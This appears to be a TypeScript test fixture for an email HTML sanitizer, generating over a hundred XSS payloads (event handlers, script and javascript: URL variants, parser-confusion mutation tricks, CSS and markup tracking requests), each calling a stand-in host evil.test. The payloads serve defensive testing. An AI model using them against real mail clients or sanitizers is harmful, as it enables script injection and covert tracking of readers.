/**
 * What hostile mails try, of our own writing: each runs `ran-<n>` or asks evil.test for something where it is not stopped.
 * `j` is code for an attribute, `u` an address.
 */
type Vector = (j: string, u: string) => string;

const EVENTS: Vector[] = [
  ...['onerror', 'ONERROR', 'onerror\n', 'onError\t'].map(
    (on): Vector =>
      (j) =>
        `<img src=x ${on}="${j}">`,
  ),
  (j) => `<img/src/onerror=${j.replaceAll('"', '')}>`,
  (j) => `<img src=x:x onerror\u000b="${j}">`,
  (j) => `<svg onload="${j}"></svg>`,
  (j) => `<svg/onload=${j.replaceAll('"', '')}>`,
  (j) => `<svg><animate onbegin="${j}" attributeName=x dur=1s></svg>`,
  (j) => `<svg><set onbegin="${j}" attributeName=x dur=1s></svg>`,
  (j) => `<svg><animateTransform onbegin="${j}" attributeName=transform></svg>`,
  (j) => `<svg><image href=x onerror="${j}" /></svg>`,
  (j) => `<body onload="${j}">`,
  (j) => `<body onpageshow="${j}">`,
  (j) => `<body onfocus="${j}">`,
  (j) => `<video src=x onerror="${j}"></video>`,
  (j) => `<video><source onerror="${j}" src=x></video>`,
  (j) => `<audio src=x onerror="${j}"></audio>`,
  (j) => `<input autofocus onfocus="${j}">`,
  (j) => `<select autofocus onfocus="${j}"></select>`,
  (j) => `<textarea autofocus onfocus="${j}"></textarea>`,
  (j) => `<button autofocus onfocus="${j}">b</button>`,
  (j) => `<a href=# id=x tabindex=1 onfocus="${j}">a</a>`,
  (j) => `<details open ontoggle="${j}"><summary>s</summary></details>`,
  (j) => `<marquee onstart="${j}">m</marquee>`,
  (j) => `<iframe onload="${j}"></iframe>`,
  (j) => `<object data=x onerror="${j}"></object>`,
  (j) => `<embed src=x onerror="${j}">`,
  (j) => `<style onload="${j}">p{}</style>`,
  (j) => `<link rel=stylesheet href=x onerror="${j}">`,
  (j) => `<script src=x onerror="${j}"></script>`,
  (j) => `<div style="animation:a 1s" onanimationstart="${j}">d</div><style>@keyframes a{}</style>`,
  (j) => `<div style="transition:all 1s;color:red" ontransitionend="${j}" onpointerenter="${j}">d</div>`,
  (j) => `<div onclick="${j}" onmouseover="${j}" onwheel="${j}" onscroll="${j}">d</div>`,
  (j) => `<custom-tag onconnected="${j}" onfocus="${j}" tabindex=0 autofocus>c</custom-tag>`,
  (j) => `<math><maction actiontype="statusline" onload="${j}">m</maction></math>`,
  (j) => `<div contenteditable autofocus onfocus="${j}" onbeforeinput="${j}">e</div>`,
  (j) => `<img src=x onload="1" onerror='${j.replaceAll("'", '&#39;')}'>`,
  (j) => `<p onafterscriptexecute="${j}" onbeforetoggle="${j}" popover>p</p>`,
];

const SCRIPTS: Vector[] = [
  (j) => `<script>${j}</script>`,
  (j) => `<SCRIPT\n>${j}</SCRIPT\n>`,
  (j) => `<script/x>${j}</script>`,
  (j) => `<scr<script>ipt>${j}</scr</script>ipt>`,
  (j) => `<script type=module>${j}</script>`,
  (j) => `<svg><script>${j}</script></svg>`,
  (j) => `<svg><script href="data:text/javascript,${encodeURIComponent(j)}" /></svg>`,
  (j) => `<math><script>${j}</script></math>`,
  (j) => `<template><script>${j}</script></template>`,
  (j) => `<div><template shadowrootmode=open><script>${j}</script></template></div>`,
  (j) => `<noscript><script>${j}</script></noscript>`,
  (j) => `<iframe srcdoc="<script>${j.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (j) => `<object data="data:text/html,<script>${encodeURIComponent(j)}</script>"></object>`,
  (j) =>
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${encodeURIComponent(j)}</script></svg>">`,
  (j) => `<iframe src="javascript:${j}"></iframe>`,
  (j) => `<iframe src="jav&#x0A;ascript:${j}"></iframe>`,
  (j) => `<iframe src="&#106;avascript:${j}"></iframe>`,
  (j) => `<iframe src=" \u0001javascript:${j}"></iframe>`,
  (j) =>
    `<iframe src="data:text/html;base64,${Buffer.from(`<script>${j}</script>`).toString('base64')}"></iframe>`,
  (j) => `<meta http-equiv=refresh content="0;url=javascript:${j}">`,
  (j) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${j.replaceAll('"', '')}</script>">`,
  (j) => `<a href="javascript:${j}">a</a>`,
  (j) => `<a href="java\tscript:${j}">a</a>`,
  (j) => `<a href="vbscript:${j}">a</a>`,
  (j) => `<a href="data:text/html,<script>${encodeURIComponent(j)}</script>">a</a>`,
  (j) => `<svg><a xlink:href="javascript:${j}"><text>t</text></a></svg>`,
  (j) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${encodeURIComponent(j)}'/></svg>#x"></svg>`,
  (j) => `<form action="javascript:${j}"><input type=submit autofocus></form>`,
  (j) => `<form><button formaction="javascript:${j}">b</button></form>`,
  (j) => `<math href="javascript:${j}">m</math>`,
  (j) => `<xml id=x><a><b>&lt;script&gt;${j}&lt;/script&gt;</b></a></xml>`,
  (j) =>
    `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${j}"/>`).toString('base64')}">`,
  (j) => `<div style="width:expression(${j.replaceAll('"', '')})">d</div>`,
  (j) => `<div style="behavior:url(#default#time2)" onbegin="${j}">d</div>`,
  (j) => `<table background="javascript:${j}"><tr><td>t</td></tr></table>`,
];

/** A parser that is not the browser's sees something else than the browser. */
const CONFUSIONS: Vector[] = [
  (j) => `<noscript><p title="</noscript><img src=x onerror=${j.replaceAll('"', '')}>">`,
  (j) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${j.replaceAll('"', '')}&gt;">`,
  (j) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${j}">`,
  (j) => `<svg></p><style><a id="</style><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<svg><style><img src=1 onerror="${j}"></style></svg>`,
  (j) => `<svg><title><style><img src=1 onerror="${j}"></style></title></svg>`,
  (j) => `<svg><desc><noscript><img src=1 onerror="${j}"></noscript></desc></svg>`,
  (j) =>
    `<math><annotation-xml encoding="text/html"><style><img src=1 onerror="${j}"></style></annotation-xml></math>`,
  (j) => `<textarea><img title="</textarea><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<title><img title="</title><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<xmp><img title="</xmp><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<noembed><img title="</noembed><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<noframes><img title="</noframes><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<iframe><img title="</iframe><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<style><a title="</style><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<!--><img src=1 onerror="${j}">-->`,
  (j) => `<!--!><img src=1 onerror="${j}">--!>`,
  (j) => `<!--a--!><img src=1 onerror="${j}">`,
  (j) => `<![CDATA[><img src=1 onerror="${j}">]]>`,
  (j) => `<svg><![CDATA[</svg><img src=1 onerror="${j}">]]></svg>`,
  (j) => `<?xml-stylesheet href="javascript:${j}"?><img src=1 onerror="${j}">`,
  (j) => `<a title="\`\`onmouseover=${j}">a</a><img src=1 title=\`x\` onerror="${j}">`,
  (j) => `<img """><script>${j}</script>">`,
  (j) => `<<img src=1 onerror="${j}">`,
  (j) => `<img src=1 onerror="${j}"`,
  (j) => `<p title='x' title="><img src=1 onerror=${j.replaceAll('"', '')}>">`,
  (j) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${j.replaceAll('"', '')}>">`,
  (j) => `<select><iframe></select><img src=1 onerror="${j}">`,
  (j) => `<table><td><a><table></table></a></td><img src=1 onerror="${j}"></table>`,
  (j) => `<option><style></option></select><img src=1 onerror="${j}"></style></option>`,
  (j) => `<plaintext><img src=1 onerror="${j}">`,
  (j) => `&lt;img src=1 onerror="${j}"&gt;<img src="&quot;onerror=&quot;${j}">`,
  (j) => `<img\u0000 src=1 on\u0000error="${j}"><scr\u0000ipt>${j}</scr\u0000ipt>`,
  (j) => `+ADw-script+AD4-${j}+ADw-/script+AD4-`,
  (j) =>
    `<div id="1<img src=1 onerror=${j.replaceAll('"', '')}>"><b id='"><img src=1 onerror=${j.replaceAll("'", '').replaceAll('"', '')}>'>`,
];

/** Nothing may ask another host for anything: it would tell the sender that the mail was read. */
const REQUESTS: Vector[] = [
  (_, u) => `<img src="${u}">`,
  (_, u) => `<img src="//${u.slice(8)}">`,
  (_, u) => `<img srcset="${u} 1x, ${u}b 2x">`,
  (_, u) => `<picture><source srcset="${u}"><img></picture>`,
  (_, u) => `<img lowsrc="${u}" dynsrc="${u}" longdesc="${u}">`,
  (_, u) => `<input type=image src="${u}">`,
  (_, u) => `<video src="${u}" poster="${u}p" autoplay></video>`,
  (_, u) => `<audio src="${u}" autoplay></audio>`,
  (_, u) => `<video><track default src="${u}"></video>`,
  (_, u) => `<body background="${u}">`,
  (_, u) => `<table background="${u}"><tr><td background="${u}d">t</td></tr></table>`,
  (_, u) => `<link rel=stylesheet href="${u}">`,
  (_, u) => `<link rel="icon prefetch preload" as=image href="${u}"><link rel=dns-prefetch href="${u}">`,
  (_, u) => `<base href="${u}/"><img src="relative.png">`,
  (_, u) => `<iframe src="${u}"></iframe>`,
  (_, u) => `<object data="${u}"></object><embed src="${u}e">`,
  (_, u) => `<frameset><frame src="${u}"></frameset>`,
  (_, u) => `<script src="${u}"></script>`,
  (_, u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (_, u) => `<meta http-equiv="Link" content="<${u}>; rel=stylesheet">`,
  (_, u) => `<svg><image href="${u}" /><image xlink:href="${u}x" /></svg>`,
  (_, u) => `<svg><use href="${u}#a" /></svg>`,
  (_, u) =>
    `<svg><filter id=f><feImage href="${u}" /></filter><rect width=9 height=9 filter="url(#f)" /></svg>`,
  (_, u) => `<svg><rect fill="url(${u}#a)" width=9 height=9 mask="url(${u}#b)" /></svg>`,
  (_, u) => `<form action="${u}" id=f><input name=x></form><button form=f autofocus>b</button>`,
  (_, u) => `<a href="https://bank.test" ping="${u}">a</a>`,
  (_, u) => `<style>@import '${u}';</style>`,
  (_, u) => `<style>@import url(${u});</style>`,
  (_, u) => `<style>@\\69mport '${u}';</style>`,
  (_, u) => `<style>@font-face{font-family:x;src:url(${u})}p{font-family:x}</style><p>p</p>`,
  (_, u) => `<style>body{background:url("${u}")}</style>`,
  (_, u) => `<style>body{background:u\\72l("${u}")}</style>`,
  (_, u) => `<style>input[value^="a"]{background:url(${u})}</style><input value=abc>`,
  (_, u) => `<style>@media screen{p::before{content:url(${u})}}</style><p>p</p>`,
  (_, u) => `<style>@page{background:url(${u})}@layer a{p{cursor:url(${u}c),auto}}</style><p>p</p>`,
  ...[
    'background:url(U)',
    "background-image:url('U')",
    'background:u\\72l(U)',
    'background:/**/url/**/(U)',
    'background:url(U',
    'background-image:image-set(url(U) 1x)',
    'background-image:-webkit-image-set(url(U) 1x)',
    'background-image:cross-fade(url(U),url(U),50%)',
    'list-style:url(U)',
    'list-style-image:url(U);display:list-item',
    'border-image:url(U) 30',
    'border-image-source:url(U)',
    'cursor:url(U),auto',
    'content:url(U)',
    'mask:url(U)',
    '-webkit-mask-image:url(U)',
    'mask-image:url(U)',
    'filter:url(U#x)',
    'clip-path:url(U#x)',
    'shape-outside:url(U);float:left',
    '-moz-binding:url(U#x)',
    'behavior:url(U)',
    '--x:url(U);background:var(--x)',
    'color:red;background:\\75\\72\\6c(U)',
    'background:URL(U)',
    'offset-path:url(U#x)',
    'position:fixed;inset:0;z-index:9999;background:url(U)',
  ].map(
    (style): Vector =>
      (_, u) =>
        `<div style="${style.replaceAll('U', u)}">d</div>`,
  ),
];

export type Payload = { n: number; html: string };

const codeOf = (n: number) => `console.log('ran-${n}');new Image().src='https://evil.test/${n}'`;

/** All of them as bodies of mails. */
export const bodies: readonly Payload[] = [...EVENTS, ...SCRIPTS, ...CONFUSIONS, ...REQUESTS].map(
  (vector, n) => ({ n, html: vector(codeOf(n), `https://evil.test/${n}`) }),
);

/** The short ones, for names, subjects and names of files. */
export const lines: readonly Payload[] = [...EVENTS, ...SCRIPTS, ...CONFUSIONS]
  .map((vector, at) => ({ n: 1000 + at, html: vector(codeOf(1000 + at), `https://evil.test/${1000 + at}`) }))
  .map(({ n, html }) => ({ n, html: html.replaceAll(/\p{Cc}/gu, ' ') }));
